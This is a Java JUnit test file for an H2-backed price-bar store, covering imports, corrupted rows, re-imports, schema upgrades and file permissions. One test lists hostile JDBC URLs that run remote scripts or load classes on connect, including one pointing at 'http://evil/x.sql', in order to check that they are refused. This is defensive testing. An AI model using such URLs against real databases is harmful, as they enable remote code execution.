package io.ibex.data;

import io.ibex.framework.domain.Bars;
import io.ibex.framework.domain.Instrument;
import io.ibex.framework.error.ConfigException;
import io.ibex.framework.error.DataException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class H2BarStoreTest {
    private static final InstantSource CLOCK = InstantSource.fixed(Instant.parse("2026-01-02T03:04:05Z"));
    @TempDir Path dir;
    private H2BarStore store;

    @BeforeEach void open() { store = H2BarStore.open(StoreLocation.resolve(dir.resolve("db/ibex").toString()), CLOCK); }
    @AfterEach void close() { store.close(); }

    private FileImportResult importFile(Path file, String symbol, Duration bar) {
        return FileImporter.importFile(store, file, symbol, bar, false, null, ImportProgress.NONE);
    }

    static void assertSameBars(Bars actual, Bars expected) {
        assertThat(actual.size()).isEqualTo(expected.size());
        for (int i = 0; i < expected.size(); i++) {
            assertThat(actual.time(i)).as("time %d", i).isEqualTo(expected.time(i));
            assertThat(new double[] {actual.open(i), actual.high(i), actual.low(i), actual.close(i), actual.volume(i)})
                .as("bar %d", i).containsExactly(expected.open(i), expected.high(i), expected.low(i), expected.close(i),
                    expected.volume(i));
        }
    }

    @Test
    void everySampleRoundTripsThroughTheStoreBitForBit() throws IOException {
        Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
        Path eth = StoreFixtures.copySample("eth-5m-2023.json", dir, "eth.json");
        Path btc = StoreFixtures.copySample("btc-ticks-2013.csv", dir, "btc.csv");
        assertThat(importFile(aapl, "AAPL", null).store().series()).isEqualTo("AAPL@1d");
        assertThat(importFile(eth, "ETH-USD", null).store().series()).isEqualTo("ETH-USD@5m");
        assertThat(importFile(btc, "BTC-USD", Duration.ofMinutes(5)).store().inserted()).isGreaterThan(1000);

        assertSameBars(store.load("AAPL", Duration.ofDays(1)), BarSources.load("sample:aapl-2013", null));
        assertSameBars(store.load("ETH-USD", Duration.ofMinutes(5)), BarSources.load("sample:eth-5m-2023", null));
        assertSameBars(store.load("BTC-USD", Duration.ofMinutes(5)), BarSources.load("sample:btc-ticks-2013", null));
        assertThat(store.load("AAPL", Duration.ofDays(1)).source()).isEqualTo("db:AAPL@1d");
    }

    @Test
    void aCorruptedFileIsRefusedWithItsLineAndLeavesTheStoreByteForByteAsItWas() throws Exception {
        importFile(StoreFixtures.copySample("eth-5m-2023.json", dir, "eth.json"), "ETH-USD", null);
        String before = StoreFixtures.digest(store);
        Path bad = corruptedAapl(127);

        assertThatThrownBy(() -> importFile(bad, "AAPL", null)).isInstanceOf(DataException.class)
            .hasMessage(bad + ":127: high 400.0 < low " + lowOnLine(127));
        assertThat(StoreFixtures.digest(store)).isEqualTo(before);
        assertThat(store.list()).extracting(SeriesInfo::series).containsExactly("ETH-USD@5m");
    }

    @Test
    void reImportingTheSameFileChangesNothing() throws Exception {
        Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
        FileImportResult first = importFile(aapl, "AAPL", null);
        String after = StoreFixtures.digest(store);
        FileImportResult again = importFile(aapl, "AAPL", null);

        assertThat(first.store().alreadyImported()).isFalse();
        assertThat(first.store().inserted()).isEqualTo(252);
        assertThat(again.store().alreadyImported()).isTrue();
        assertThat(again.store().importId()).isEqualTo(first.store().importId());
        assertThat(StoreFixtures.digest(store)).isEqualTo(after);
        assertThat(StoreFixtures.count(store, "SELECT COUNT(*) FROM bar_import")).isEqualTo(1);
    }

    @Test
    void theSameBarsFromADifferentFileAreRecognisedAsUnchanged() throws Exception {
        importFile(StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv"), "AAPL", null);
        Path semicolons = dir.resolve("aapl-semi.csv");
        Files.writeString(semicolons, Files.readString(dir.resolve("aapl.csv")).replace(',', ';'));
        ImportResult r = importFile(semicolons, "AAPL", null).store();
        assertThat(r.alreadyImported()).isFalse();
        assertThat(r.unchanged()).isEqualTo(252);
        assertThat(r.inserted() + r.updated()).isZero();
    }

    @Test
    void overlappingBarsWithNewValuesReplaceTheStoredOnes() throws IOException {
        Path a = Files.writeString(dir.resolve("a.csv"), "date,open,high,low,close,volume\n"
            + "2020-01-01,10,11,9,10,100\n2020-01-02,10,11,9,10,100\n");
        Path b = Files.writeString(dir.resolve("b.csv"), "date,open,high,low,close,volume\n"
            + "2020-01-02,10,12,9,11,150\n2020-01-03,11,12,10,11,100\n");
        importFile(a, "X", null);
        ImportResult r = importFile(b, "X", null).store();
        assertThat(List.of(r.inserted(), r.updated(), r.unchanged())).containsExactly(1, 1, 0);
        Bars x = store.load("X", Duration.ofDays(1));
        assertThat(x.size()).isEqualTo(3);
        assertThat(x.close(1)).isEqualTo(11.0);
        assertThat(x.volume(1)).isEqualTo(150.0);
    }

    @Test
    void skipBadImportsTheRestAndWritesTheRejectsWithReasonsToASideFile() throws Exception {
        Path bad = corruptedAapl(127);
        FileImportResult r = FileImporter.importFile(store, bad, "aapl", null, true, null, ImportProgress.NONE);
        assertThat(r.store().inserted()).isEqualTo(251);
        assertThat(r.rejectedFile()).isEqualTo(dir.resolve("aapl-bad.csv.rejected.csv"));
        List<String> side = Files.readAllLines(r.rejectedFile());
        assertThat(side).hasSize(2);
        assertThat(side.get(0)).isEqualTo("line,reason,row");
        assertThat(side.get(1)).startsWith("127,\"high 400.0 < low ").contains(",\"2013-");
        assertThat(StoreFixtures.count(store, "SELECT rows_rejected FROM bar_import")).isEqualTo(1);

        Path out = dir.resolve("rejects");
        FileImportResult again = FileImporter.importFile(store, bad, "AAPL", null, true, out, ImportProgress.NONE);
        assertThat(again.store().alreadyImported()).isTrue();
        assertThat(again.rejectedFile()).isEqualTo(out.resolve("aapl-bad.csv.rejected.csv"));
        assertThat(Files.readAllLines(again.rejectedFile())).isEqualTo(side);
    }

    @Test
    void barFilesAreStoredUnderTheirSpacingAndAMismatchingBarSizeIsRefused() throws IOException {
        Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
        assertThatThrownBy(() -> importFile(aapl, "AAPL", Duration.ofHours(5))).isInstanceOf(DataException.class)
            .hasMessageContaining("--bar 5h does not match").hasMessageContaining("1d apart");
        // issue 16: daily bars are not stored as hourly ones (1d is a multiple of 1h, but no two bars are an hour apart)
        assertThatThrownBy(() -> importFile(aapl, "AAPL", Duration.ofHours(1))).isInstanceOf(DataException.class)
            .hasMessageContaining("--bar 1h contradicts").hasMessageContaining("no two of its bars are closer than 1d");
        assertThat(store.list()).isEmpty();
    }

    @Test
    void pricesWithMoreThanEightDecimalsAreRefusedNotRounded() {
        Bars bars = Bars.builder(Instrument.of("X"), "t").add(0, 1.123456789, 2, 1, 1.5, 1).build();
        assertThatThrownBy(() -> store.importBars(bars, Duration.ofDays(1))).isInstanceOf(DataException.class)
            .hasMessageContaining("1.123456789 has more than 8 decimals");
    }

    @Test
    void deleteRemovesTheSeriesAndItsImportRecordsSoItCanBeImportedAgain() throws Exception {
        Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
        importFile(aapl, "AAPL", null);
        assertThat(store.delete("AAPL", Duration.ofDays(1))).isEqualTo(252);
        assertThat(store.list()).isEmpty();
        assertThat(StoreFixtures.count(store, "SELECT COUNT(*) FROM bar_import")).isZero();
        assertThat(importFile(aapl, "AAPL", null).store().inserted()).isEqualTo(252);
    }

    @Test
    void listShowsEachSeriesWithItsRangeAndCount() throws IOException {
        importFile(StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv"), "AAPL", null);
        assertThat(store.list()).containsExactly(new SeriesInfo("AAPL", Duration.ofDays(1),
            Instant.parse("2013-01-02T00:00:00Z").toEpochMilli(), Instant.parse("2013-12-31T00:00:00Z").toEpochMilli(),
            252));
    }

    @Test
    void dbSpecsLoadFromTheStoreGivenByPath() throws IOException {
        importFile(StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv"), "AAPL", null);
        store.close();
        String db = dir.resolve("db/ibex").toString();
        assertSameBars(BarSources.load("db:AAPL@1d", null, null, db), BarSources.load("sample:aapl-2013", null));
        assertThat(BarSources.load("db:aapl", null, null, db).size()).isEqualTo(252);
        assertThatThrownBy(() -> BarSources.load("db:AAPL@1h", null, null, db)).isInstanceOf(DataException.class)
            .hasMessageContaining("no bars for AAPL@1h").hasMessageContaining("it holds: AAPL@1d");
        assertThatThrownBy(() -> BarSources.load("db:MSFT", null, null, db)).isInstanceOf(DataException.class)
            .hasMessageContaining("no bars for MSFT");
        store = H2BarStore.open(db);
    }

    @Test
    void theSchemaIsVersionedAndReopeningDoesNotMigrateAgain() throws SQLException {
        assertThat(StoreFixtures.count(store, "SELECT MAX(version) FROM ibex_schema_version")).isEqualTo(Schema.latest());
        store.close();
        store = H2BarStore.open(dir.resolve("db/ibex").toString());
        assertThat(StoreFixtures.count(store, "SELECT COUNT(*) FROM ibex_schema_version")).isEqualTo(Schema.latest());
        assertThat(StoreFixtures.count(store, "SELECT COUNT(*) FROM INFORMATION_SCHEMA.SETTINGS"
            + " WHERE SETTING_NAME = 'WRITE_DELAY' AND SETTING_VALUE <> '0'")).isZero();
        assertThat(StoreFixtures.count(store, "SELECT COUNT(*) FROM INFORMATION_SCHEMA.SETTINGS"
            + " WHERE SETTING_NAME = 'WRITE_DELAY' AND SETTING_VALUE = '0'")).isPositive();
    }

    @Test
    void aVersion1StoreIsUpgradedWithItsBarsLiveAndCounted() throws Exception {
        Path old = dir.resolve("v1/ibex");
        try (java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:h2:file:" + old);
             java.sql.Statement s = c.createStatement()) {
            s.execute("CREATE TABLE ibex_schema_version (version INT PRIMARY KEY, applied_at TIMESTAMP WITH TIME ZONE"
                + " NOT NULL DEFAULT CURRENT_TIMESTAMP)");
            for (String sql : Schema.MIGRATIONS.get(0)) s.execute(sql);
            s.execute("INSERT INTO ibex_schema_version (version) VALUES (1)");
            s.execute("INSERT INTO bar_series (symbol, bar_seconds) VALUES ('OLD', 86400)");
            s.execute("INSERT INTO bar_import (series_id, source, sha256, bars_read, bars_inserted, bars_updated,"
                + " rows_rejected, imported_at) VALUES (1, 'old.csv', '" + "a".repeat(64) + "', 2, 2, 0, 0, CURRENT_TIMESTAMP)");
            s.execute("INSERT INTO bar VALUES (1, 86400000, 1000000000, 1100000000, 900000000, 1000000000, 5, 1),"
                + " (1, 172800000, 1000000000, 1100000000, 900000000, 1050000000, 6, 1)");
        }
        try (H2BarStore upgraded = H2BarStore.openExisting(old.toString())) {
            assertThat(upgraded.verify()).extracting(SeriesInfo::series, SeriesInfo::count)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("OLD@1d", 2L));
            assertThat(upgraded.load("OLD", Duration.ofDays(1)).close(1)).isEqualTo(10.5);
            Path aapl = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl.csv");
            FileImporter.importFile(upgraded, aapl, "OLD", null, false, null, ImportProgress.NONE);
            assertThat(upgraded.list()).singleElement().extracting(SeriesInfo::count).isEqualTo(254L);
        }
    }

    @Test
    void urlsThatCanRunCodeOnConnectAreRefused() {
        for (String url : new String[] {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "jdbc:h2:file:/tmp/x;init = runscript from 'x'", "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'x'",
            "jdbc:h2:file:/tmp/x;DATABASE_EVENT_LISTENER='org.example.Evil'",     // loads and runs a class
            "jdbc:h2:tcp://localhost:9092/~/x", "jdbc:h2:ssl://evil.example/x", "jdbc:h2:zip:/tmp/x.zip!/x",
            "jdbc:h2:file:/tmp/x;ACCESS_MODE_DATA=r;INIT=x", "jdbc:h2:file:/tmp/x;FILE_LOCK=SERIALIZED",
            "jdbc:postgresql://db.example/bars", "jdbc:sqlite:/tmp/x.db"})
            assertThatThrownBy(() -> StoreLocation.resolve(url)).as(url).isInstanceOf(ConfigException.class)
                .hasMessageStartingWith("database URL ").hasMessageContaining(" refused: ");
        assertThat(StoreLocation.resolve("jdbc:h2:file:/tmp/x;USER=sa;password=secret").display())
            .isEqualTo("jdbc:h2:file:/tmp/x;USER=sa;password=****");
        assertThatThrownBy(() -> StoreLocation.resolve("jdbc:postgresql://db.example/bars"))
            .hasMessageContaining("only H2 bar stores are supported");
        assertThatThrownBy(() -> StoreLocation.resolve("/tmp/x;AUTO_SERVER=TRUE")).isInstanceOf(ConfigException.class)
            .hasMessageContaining("contains ';'");
    }

    @Test
    void theStoreIsFoundFromTheOptionThenTheEnvironmentThenTheHomeDirectory() {
        Path home = dir.resolve("home").resolve(".ibex");
        assertThat(StoreLocation.resolve(null, Map.of(), home).jdbcUrl())
            .isEqualTo("jdbc:h2:file:" + home.resolve("ibex").toAbsolutePath() + ";WRITE_DELAY=0;TRACE_LEVEL_FILE=0;COMPRESS=TRUE");
        assertThat(StoreLocation.resolve(null, Map.of("IBEX_DB", "/data/bars.mv.db"), home).jdbcUrl())
            .isEqualTo("jdbc:h2:file:/data/bars;WRITE_DELAY=0;TRACE_LEVEL_FILE=0;COMPRESS=TRUE");
        assertThat(StoreLocation.resolve(null, Map.of("IBEX_HOME", "/srv/ibex"), home).display()).isEqualTo("/srv/ibex/ibex");
        Path user = dir.resolve("home");
        assertThat(StoreLocation.resolve("jdbc:h2:~/bars;CACHE_SIZE=8192", Map.of("HOME", user.toString()), home).jdbcUrl())
            .isEqualTo("jdbc:h2:file:" + user.toAbsolutePath() + "/bars;CACHE_SIZE=8192;WRITE_DELAY=0;TRACE_LEVEL_FILE=0;COMPRESS=TRUE");
        assertThat(StoreLocation.resolve("jdbc:h2:mem:t", Map.of("IBEX_DB", "/data/bars"), home).jdbcUrl())
            .isEqualTo("jdbc:h2:mem:t;WRITE_DELAY=0;TRACE_LEVEL_FILE=0;COMPRESS=TRUE");
    }

    @Test
    void aFileThatIsNotAnH2DatabaseGivesAOneLineReason() throws IOException {
        Path junk = Files.writeString(dir.resolve("junk.mv.db"), "this is not a database".repeat(300));
        assertThatThrownBy(() -> H2BarStore.open(junk.toString())).isInstanceOf(DataException.class)
            .hasMessageStartingWith("bar store " + dir.resolve("junk")).hasMessageNotContaining("\n");
    }

    private Path corruptedAapl(int line) throws IOException {
        Path src = StoreFixtures.copySample("aapl-2013.csv", dir, "aapl-src.csv");
        List<String> lines = new ArrayList<>(Files.readAllLines(src));
        String[] c = lines.get(line - 1).split(",");
        c[2] = "400.00";                       // high below the low (~430-560 in 2013)
        lines.set(line - 1, String.join(",", c));
        return Files.write(dir.resolve("aapl-bad.csv"), lines);
    }

    private String lowOnLine(int line) throws IOException {
        return String.valueOf(Double.parseDouble(Files.readAllLines(dir.resolve("aapl-src.csv")).get(line - 1)
            .split(",")[3]));
    }

    @Test void theStoreFileAndTheDirectoryItCreatesArePrivate() throws Exception {
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(
            dir.resolve("db/ibex.mv.db")))).isEqualTo("rw-------");
        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(
            dir.resolve("db")))).isEqualTo("rwx------");
    }
}
